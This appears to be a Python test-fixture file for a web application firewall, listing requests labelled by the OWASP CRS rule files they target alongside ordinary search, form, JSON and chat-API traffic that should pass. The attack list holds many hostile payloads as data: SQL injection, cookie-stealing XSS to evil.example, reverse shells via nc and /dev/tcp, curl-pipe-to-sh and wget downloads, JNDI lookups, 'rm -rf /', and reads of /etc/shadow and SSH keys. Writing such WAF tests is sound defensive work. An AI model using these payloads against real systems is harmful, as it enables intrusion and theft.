"""Requests for the WAF tests: attacks labelled by the CRS 3.3 rule file they
target (written after the kinds of payloads in CRS's regression tests), and
ordinary API, search, form and JSON traffic that must pass at PL1.

Each case is sent as written: method, request target (already percent-encoded
where a client would encode it), headers and body. `BASE_HEADERS` are added
unless a case sets the same header.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

BASE_HEADERS = {"host": "api.example.com", "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) "
                "Gecko/20100101 Firefox/128.0", "accept": "*/*"}


@dataclass(frozen=True)
class Case:
    label: str  # the CRS rule file it targets ("942-sqli"), or what it is ("search")
    method: str
    target: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""

    def all_headers(self) -> list[tuple[str, str]]:
        """The headers as sent: the base ones, the case's, and Content-Length."""
        merged = {**BASE_HEADERS, **self.headers}
        if self.body or self.method in ("POST", "PUT", "PATCH"):
            merged.setdefault("content-length", str(len(self.body)))
        return [(k, v) for k, v in merged.items() if v is not None]


def q(label: str, value: str, param: str = "q", path: str = "/search") -> Case:
    """A GET whose query parameter `param` carries `value`."""
    return Case(label, "GET", f"{path}?{param}={quote(value, safe='')}")


def form(label: str, value: str, param: str = "comment", path: str = "/submit") -> Case:
    return Case(label, "POST", path, {"content-type": "application/x-www-form-urlencoded"},
                urlencode({param: value}).encode())


def js(label: str, data: object, path: str = "/api/items") -> Case:
    return Case(label, "POST", path, {"content-type": "application/json"},
                json.dumps(data).encode())


def ua(label: str, agent: str) -> Case:
    return Case(label, "GET", "/", {"user-agent": agent})


# -- attacks ---------------------------------------------------------------------------------
SQLI = "942-sqli"
XSS = "941-xss"
LFI = "930-lfi"
RFI = "931-rfi"
RCE = "932-rce"
PHP = "933-php"
NODE = "934-nodejs"
JAVA = "944-java"
SCANNER = "913-scanner"
PROTOCOL = "920-protocol"
PROTOCOL_ATTACK = "921-protocol-attack"
SESSION = "943-session-fixation"

ATTACKS: list[Case] = [
    # 942: SQL injection, in query args, form fields, JSON fields and cookies
    q(SQLI, "1' OR '1'='1"), q(SQLI, "1 OR 1=1--"), q(SQLI, "' UNION SELECT username, password FROM users--"),
    q(SQLI, "1; DROP TABLE users--"), q(SQLI, "admin'--"), q(SQLI, "1' AND SLEEP(5)#"),
    q(SQLI, "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"),
    q(SQLI, "1' waitfor delay '0:0:5'--"), q(SQLI, "' OR 1=1 LIMIT 1 -- -"),
    q(SQLI, "1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables"),
    q(SQLI, "1' AND extractvalue(1,concat(0x7e,(SELECT user())))--", param="id"),
    q(SQLI, "'; EXEC xp_cmdshell('dir');--", param="id"),
    q(SQLI, "1' AND 1=(SELECT COUNT(*) FROM tabname); --", param="id"),
    q(SQLI, "\" or \"\"=\"", param="user"), q(SQLI, "1) or pg_sleep(10)--", param="id"),
    q(SQLI, "SELECT * FROM users WHERE id = 1 OR 1=1", param="filter"),
    q(SQLI, "1'||(select load_file('/etc/passwd'))||'", param="id"),
    q(SQLI, "1 AND ascii(substring((SELECT password FROM users LIMIT 1),1,1))>64", param="id"),
    form(SQLI, "x' OR 'a'='a", param="username"), form(SQLI, "' or 1=1#", param="password"),
    form(SQLI, "1; UPDATE users SET role='admin' WHERE name='bob'--", param="id"),
    js(SQLI, {"user": {"name": "x' UNION SELECT password FROM users--"}}),
    js(SQLI, {"filter": "1' or '1'='1' --"}),
    Case(SQLI, "GET", "/account", {"cookie": "session=' OR '1'='1"}),
    q(SQLI, "1%27%20or%201=1--", param="id"),
    # 941: XSS
    q(XSS, "<script>alert(1)</script>"), q(XSS, "<img src=x onerror=alert(document.cookie)>"),
    q(XSS, "<svg/onload=alert(1)>"), q(XSS, "javascript:alert(1)", param="next"),
    q(XSS, "<iframe src=\"javascript:alert('x')\"></iframe>"),
    q(XSS, "<body onload=alert('xss')>"), q(XSS, "\"><script>document.location='http://evil.example/'+document.cookie</script>"),
    q(XSS, "<a href=\"javascript:void(0)\" onmouseover=\"alert(1)\">x</a>"),
    q(XSS, "<div style=\"background:url(javascript:alert(1))\">"),
    q(XSS, "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    q(XSS, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    q(XSS, "';alert(String.fromCharCode(88,83,83))//"),
    q(XSS, "<input autofocus onfocus=alert(1)>"), q(XSS, "<details open ontoggle=alert(1)>"),
    form(XSS, "<script>fetch('//evil.example?c='+document.cookie)</script>"),
    form(XSS, "<img src=1 onerror=\"eval(atob('YWxlcnQoMSk='))\">", param="bio"),
    js(XSS, {"profile": {"bio": "<script>alert(1)</script>"}}),
    js(XSS, {"html": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"}),
    Case(XSS, "GET", "/page", {"referer": "http://example.com/<script>alert(1)</script>"}),
    q(XSS, "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    # 930: local file inclusion / path traversal
    q(LFI, "../../../../etc/passwd", param="file"), q(LFI, "..%2f..%2f..%2fetc%2fpasswd", param="file"),
    q(LFI, "/etc/shadow", param="path"), q(LFI, "....//....//....//etc/passwd", param="file"),
    q(LFI, "..\\..\\..\\windows\\win.ini", param="file"), q(LFI, "/proc/self/environ", param="page"),
    q(LFI, "../../../../../../boot.ini", param="doc"), q(LFI, "/var/log/apache2/access.log", param="f"),
    q(LFI, "../.ssh/id_rsa", param="f"), q(LFI, "%2e%2e%2f%2e%2e%2fetc%2fhosts", param="f"),
    # (a path with `..` segments, encoded slashes too, is the front's 400 before any WAF:
    # tests/net/test_protocol.py)
    Case(LFI, "GET", "/download/.env"), Case(LFI, "GET", "/.git/config"),
    Case(LFI, "GET", "/.htaccess"), form(LFI, "../../../../etc/passwd", param="template"),
    js(LFI, {"path": "../../../etc/passwd"}),
    # 931: remote file inclusion
    q(RFI, "http://203.0.113.7/shell.txt?", param="page"), q(RFI, "https://198.51.100.2/x.php", param="include"),
    q(RFI, "http://evil.example/shell.txt?", param="file"), q(RFI, "ftp://203.0.113.7/backdoor.php", param="mod"),
    q(RFI, "include(http://evil.example/r57.txt)", param="x"),
    q(RFI, "http://evil.example/c99.txt??", param="page"),
    q(RFI, "file:///etc/passwd", param="url"), q(RFI, "http://10.0.0.1/a.php?", param="template"),
    # 932: remote command execution
    q(RCE, ";cat /etc/passwd", param="host"), q(RCE, "| id", param="cmd"), q(RCE, "`whoami`", param="name"),
    q(RCE, "$(curl http://evil.example/x.sh | sh)", param="ip"), q(RCE, "127.0.0.1; ls -la /", param="ip"),
    q(RCE, "& ping -c 10 127.0.0.1 &", param="host"), q(RCE, "|| nc -e /bin/sh 203.0.113.7 4444", param="x"),
    q(RCE, ";wget http://evil.example/bot -O /tmp/bot;chmod +x /tmp/bot", param="x"),
    q(RCE, "() { :;}; /bin/bash -c 'cat /etc/passwd'", param="x"),
    Case(RCE, "GET", "/cgi-bin/status", {"user-agent": "() { :; }; /bin/bash -c \"id\""}),
    q(RCE, "; powershell -enc SQBFAFgA", param="x"), q(RCE, "| cmd.exe /c dir", param="x"),
    q(RCE, "; /usr/bin/python -c 'import os;os.system(\"id\")'", param="x"),
    q(RCE, "$(echo${IFS}test)", param="x"), q(RCE, ";bash -i >& /dev/tcp/203.0.113.7/8080 0>&1", param="x"),
    q(RCE, "; rm -rf /", param="file"), q(RCE, "|/bin/cat${IFS}/etc/passwd", param="x"),
    form(RCE, "8.8.8.8; cat /etc/shadow", param="target"), js(RCE, {"host": "example.com; curl evil.example | sh"}),
    q(RCE, "; nslookup evil.example", param="d"),
    # 933: PHP injection
    q(PHP, "<?php system($_GET['c']); ?>", param="x"), q(PHP, "<?= phpinfo() ?>", param="x"),
    q(PHP, "php://input", param="page"), q(PHP, "php://filter/convert.base64-encode/resource=index.php", param="page"),
    q(PHP, "phpinfo()", param="x"), q(PHP, "system('id')", param="x"), q(PHP, "eval($_POST['x'])", param="x"),
    q(PHP, "base64_decode('ZWNobyAx')", param="x"), q(PHP, "assert($_REQUEST[a])", param="x"),
    q(PHP, "shell_exec('ls')", param="x"), q(PHP, "file_get_contents('/etc/passwd')", param="x"),
    q(PHP, "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", param="data"),
    q(PHP, "allow_url_include=On", param="x"), q(PHP, "$_SERVER['HTTP_HOST']", param="x"),
    form(PHP, "<?php echo shell_exec($_GET['cmd']); ?>", param="content"),
    Case(PHP, "GET", "/index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=="),
    # 934: Node.js injection
    q(NODE, "require('child_process').exec('id')", param="x"),
    q(NODE, "process.mainModule.require('child_process').execSync('ls')", param="x"),
    q(NODE, "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", param="x"),
    js(NODE, {"name": "require('child_process').spawn('sh')"}),
    q(NODE, "new Function('return process')().mainModule.require('fs')", param="x"),
    # 944: Java
    q(JAVA, "${jndi:ldap://evil.example/a}", param="x"),
    Case(JAVA, "GET", "/", {"user-agent": "${jndi:ldap://evil.example/exploit}"}),
    Case(JAVA, "GET", "/", {"x-api-version": "${jndi:rmi://203.0.113.7/o}"}),
    q(JAVA, "java.lang.Runtime.getRuntime().exec('id')", param="x"),
    q(JAVA, "%{(#_='multipart/form-data').(#cmd='id')}", param="x"),
    q(JAVA, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", param="x"),
    q(JAVA, "java.lang.ProcessBuilder", param="x"),
    form(JAVA, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", param="state"),
    q(JAVA, "${${lower:j}ndi:${lower:l}dap://evil.example/a}", param="x"),
    # 913: scanners
    ua(SCANNER, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
    ua(SCANNER, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    ua(SCANNER, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    ua(SCANNER, "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    ua(SCANNER, "w3af.org"), ua(SCANNER, "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"),
    ua(SCANNER, "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"),
    ua(SCANNER, "Arachni/v1.5.1"), ua(SCANNER, "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"),
    ua(SCANNER, "gobuster/3.6"), ua(SCANNER, "Fuzz Faster U Fool v2.1.0"), ua(SCANNER, "ZmEu"),
    ua(SCANNER, "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Havij"),
    ua(SCANNER, "OpenVAS-VT 22.4"),
    # 920: protocol enforcement
    Case(PROTOCOL, "GET", "/search?q=%zz%zz"), Case(PROTOCOL, "GET", "/search?q=abc%u00zz"),
    Case(PROTOCOL, "GET", "/file?name=abc%00.jpg"),
    Case(PROTOCOL, "GET", "/", {"host": None}),  # type: ignore[dict-item]
    Case(PROTOCOL, "POST", "/upload", {"content-type": "application/x-foo"}, b"abc"),
    Case(PROTOCOL, "GET", "/backup.sql"), Case(PROTOCOL, "GET", "/db.mdb"),
    Case(PROTOCOL, "GET", "/config.ini.bak"),
    Case(PROTOCOL, "GET", "/", {"proxy": "http://evil.example"}),
    Case(PROTOCOL, "POST", "/api", {"content-type": "application/json; charset=utf-7"}, b"{}"),
    Case(PROTOCOL, "GET", "/", {"content-range": "bytes 0-10/100"}),
    Case(PROTOCOL, "GET", "/", {"range": "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17"
                                         ",18-19,20-21,22-23,24-25,26-27,28-29,30-31,32-33,34-35,36-37,38-39,40-41,42-43,44-45,46-47,48-49,50-51,52-53,54-55,56-57,58-59,60-61,62-63,64-65"}),
    Case(PROTOCOL, "POST", "/api", {"content-type": "application/json", "content-encoding": "gzip, deflate, br, x, y, z"}, b"{}"),
    Case(PROTOCOL, "GET", "/web.config"),
    # 921: protocol attacks
    q(PROTOCOL_ATTACK, "foo\r\nSet-Cookie: admin=true", param="lang"),
    q(PROTOCOL_ATTACK, "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", param="x"),
    q(PROTOCOL_ATTACK, "\r\nLocation: http://evil.example", param="redirect"),
    Case(PROTOCOL_ATTACK, "GET", "/?" + quote("a\r\nb") + "=1"),
    q(PROTOCOL_ATTACK, "GET /admin HTTP/1.1\r\nHost: internal", param="x"),
    form(PROTOCOL_ATTACK, "x\nContent-Type: text/html", param="name"),
    q(PROTOCOL_ATTACK, "foo%0d%0aSet-Cookie:%20sid=1", param="x"),
    Case(PROTOCOL_ATTACK, "GET", "/?a=1&a=2&" + quote("x[", safe="") + "=" + quote("\r\nHeader: y")),
    # 943: session fixation
    q(SESSION, "<script>document.cookie=\"sessionid=1234; domain=.example.com\";</script>", param="x"),
    q(SESSION, "<meta http-equiv=\"Set-Cookie\" content=\"PHPSESSID=abc\">", param="x"),
    Case(SESSION, "GET", "/login.php?PHPSESSID=attackerid", {"referer": "http://evil.example/"}),
    Case(SESSION, "GET", "/login?jsessionid=0123456789abcdef", {"referer": "https://attacker.example/x"}),
]

# -- ordinary traffic (must pass at PL1) -----------------------------------------------------
def chat(content: str, **extra: object) -> Case:
    return js("chat", {"model": "qwen2.5-0.5b", "messages": [
        {"role": "system", "content": "You are a helpful assistant."},
        {"role": "user", "content": content}], "max_tokens": 256, **extra},
        path="/v1/chat/completions")


CLEAN: list[Case] = [
    q("search", "O'Reilly books"), q("search", "men's running shoes"), q("search", "rock 'n' roll"),
    q("search", "how to cook pasta"), q("search", "iphone 15 pro max 256gb"),
    q("search", "café crème brûlée"), q("search", "東京 ラーメン"), q("search", "Zoë Saldaña"),
    q("search", "size 10.5 width=wide"), q("search", "\"exact phrase\" search"),
    q("search", "c++ templates tutorial"), q("search", "what is 2+2?"),
    q("search", "50% off sale"), q("search", "Dr. Martin Luther King Jr."),
    q("search", "D'Angelo - Brown Sugar"), q("search", "select a good laptop"),
    q("search", "union station chicago"), q("search", "best drop shipping tools"),
    Case("search", "GET", "/search?q=shoes&page=2&sort=price_asc&size=42&color=black"),
    Case("search", "GET", "/api/v1/products?limit=20&offset=40&fields=id,name,price"),
    Case("search", "GET", "/api/users/12345"), Case("search", "GET", "/api/orders?status=shipped&from=2024-01-01&to=2024-12-31"),
    Case("search", "GET", "/geo?lat=48.8566&lon=2.3522&radius=1500"),
    Case("search", "GET", "/static/app.3f2a1b.js"), Case("search", "GET", "/images/logo@2x.png"),
    Case("search", "GET", "/docs/getting-started"), Case("search", "GET", "/health"),
    Case("search", "GET", "/feed.xml"),
    form("form", "Jean-Luc O'Connor", param="name"),
    form("form", "I can't log in since yesterday - it says my password is wrong. Can you help?", param="message"),
    form("form", "jane.doe+newsletter@example.com", param="email"),
    form("form", "+1 (555) 123-4567", param="phone"),
    form("form", "123 Main St., Apt. #4B", param="address"),
    Case("form", "POST", "/signup", {"content-type": "application/x-www-form-urlencoded"},
         urlencode({"username": "zoe_2024", "password": "correct horse battery staple",
                    "remember": "on"}).encode()),
    Case("form", "POST", "/checkout", {"content-type": "application/x-www-form-urlencoded"},
         urlencode({"qty": "3", "price": "19.99", "coupon": "SPRING-24", "note": "Leave at the door, please"}).encode()),
    form("form", "Great product! 5/5 would buy again :)", param="review"),
    form("form", "Müller & Söhne GmbH", param="company"),
    js("json", {"user": {"name": "Renée Zellweger", "address": {"city": "Zürich", "zip": "8001"},
                         "tags": ["vip", "beta"]}}),
    js("json", {"order": {"items": [{"sku": "A-1", "qty": 2, "price": 9.5},
                                    {"sku": "B-7", "qty": 1, "price": 120.0}], "total": 139.0}}),
    js("json", {"event": "page_view", "ts": 1732982400123, "props": {"path": "/pricing", "ref": "google"}}),
    js("json", {"title": "Meeting notes", "body": "# Agenda\n\n- Q3 review\n- Hiring plan\n\n**Action:** send the deck"}),
    js("json", {"numbers": [1, 2.5, -3, 1e10, 0], "ok": True, "none": None}),
    js("json", {"comment": "I don't think that's right; let's check the docs again."}),
    js("json", {"name": "Ólafur Arnalds", "bio": "Composer from Iceland. Loves piano and film."}),
    js("json", {"query": {"bool": {"must": [{"match": {"title": "red shoes"}}],
                                   "filter": [{"range": {"price": {"lte": 100}}}]}}}),
    js("json", {"id": "550e8400-e29b-41d4-a716-446655440000", "version": 3}),
    js("json", {"text": "The quick brown fox jumps over the lazy dog.", "lang": "en"}),
    js("json", {"rating": 4, "review": "Works as advertised. Battery lasts ~2 days."}),
    js("json", {"input": ["first sentence to embed", "second one"], "model": "bge-small"},
       path="/v1/embeddings"),
    chat("What's the capital of France?"),
    chat("Summarize this article in 3 bullet points: The city council met on Tuesday to discuss the new park."),
    chat("Can you explain recursion with a simple example in Python?"),
    chat("Fix my code:\n```python\ndef add(a, b):\n    return a + b\nprint(add(1, 2))\n```"),
    chat("Why does `for (let i = 0; i < 10; i++) { console.log(i); }` print 0 to 9?"),
    chat("Translate to German: I'd like a coffee, please."),
    chat("Write a haiku about autumn leaves."),
    chat("Write a SQL query that counts orders per customer from the orders table, sorted by count."),
    chat("Explain the difference between TCP and UDP in two sentences.", temperature=0.2),
    chat("My name is José and I live in São Paulo. How do I say 'good morning' in Japanese?"),
    chat("Convert 72 degrees Fahrenheit to Celsius and show the formula."),
    chat("Give me a markdown table with three fruits and their colors."),
    chat("How do I center a div with CSS flexbox?"),
    chat("What does the Rust borrow checker do?", stream=True),
    js("chat", {"model": "qwen2.5-0.5b", "prompt": "Once upon a time", "max_tokens": 64},
       path="/v1/completions"),
    Case("json", "PUT", "/api/users/42", {"content-type": "application/json"},
         b'{"display_name": "Ana Mar\\u00eda", "timezone": "Europe/Madrid"}'),
    Case("json", "PATCH", "/api/settings", {"content-type": "application/json"},
         b'{"notifications": {"email": false, "push": true}}'),
    Case("json", "DELETE", "/api/sessions/abc123"),
    Case("text", "POST", "/echo", {"content-type": "text/plain"}, b"hello, world"),
    Case("search", "GET", "/api/items", {"authorization": "Bearer sk-live-1234567890abcdef",
                                          "accept": "application/json"}),
    Case("search", "GET", "/", {"cookie": "theme=dark; lang=en-US; consent=yes"}),
]

# Ordinary requests CRS 3.3.4 blocks at PL1 (the rule ids that do it): what a
# function's `exclude_rules` is for.
KNOWN_FALSE_POSITIVES: list[tuple[Case, list[int]]] = [
    (js("json", {"name": "Ólafur Arnalds", "bio": "Composer from Iceland. Loves piano & strings."}),
     [932105]),  # "& strings": a Unix command after a shell operator
    (js("json", {"text": "Why does `for (let i = 0; i < 10; i++) { console.log(i); }` print 0 to 9?"},
        path="/my-fn/chat"), [932115]),  # a prompt sent to a function, not to /v1/*
]
